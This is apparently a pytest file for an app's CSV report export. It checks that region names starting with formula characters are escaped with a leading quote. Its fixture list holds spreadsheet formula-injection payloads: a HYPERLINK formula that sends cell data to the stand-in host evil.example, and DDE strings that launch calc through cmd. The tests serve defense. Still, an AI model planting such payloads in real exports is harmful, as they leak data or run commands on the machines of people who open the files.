"""CSV exports cannot carry spreadsheet formulas: cells that would run are escaped."""

from __future__ import annotations

import csv
import io
from datetime import date

import httpx
import pytest

from app.csv_export import safe_cell
from tests.conftest import Factory

EVIL_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"详情")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("name", EVIL_NAMES)
def test_formula_starts_are_escaped(name: str) -> None:
    assert safe_cell(name) == "'" + name


def test_ordinary_values_are_untouched() -> None:
    for value in ("北京市朝阳区", "Region 5", "", "a=b", 0, -5, 350000):
        assert safe_cell(value) == value


async def test_monthly_csv_escapes_a_region_name_that_is_a_formula(
    client: httpx.AsyncClient, factory: Factory
) -> None:
    codes = [f"4403{i:02d}" for i in range(1, len(EVIL_NAMES) + 1)]
    for code, name in zip(codes, EVIL_NAMES, strict=True):
        factory.region(code, name)
        factory.pensioner(code)
    factory.pensioner("110105")
    auditor = factory.auth(factory.staff("auditor"))
    month = date.today().strftime("%Y-%m")
    response = await client.get(
        "/api/v1/reports/monthly.csv", headers=auditor, params={"month": month}
    )
    assert response.status_code == 200, response.text
    rows = {r["region_code"]: r for r in csv.DictReader(io.StringIO(response.text))}
    for code, name in zip(codes, EVIL_NAMES, strict=True):
        assert rows[code]["region_name"] == "'" + name
        assert rows[code]["recipients"] == "1"
    assert rows["110105"]["region_name"] == "北京市朝阳区"
    # The JSON report shows the names as they are.
    report = await client.get("/api/v1/reports/monthly", headers=auditor, params={"month": month})
    names = {r["region_code"]: r["region_name"] for r in report.json()}
    assert names[codes[0]] == EVIL_NAMES[0]
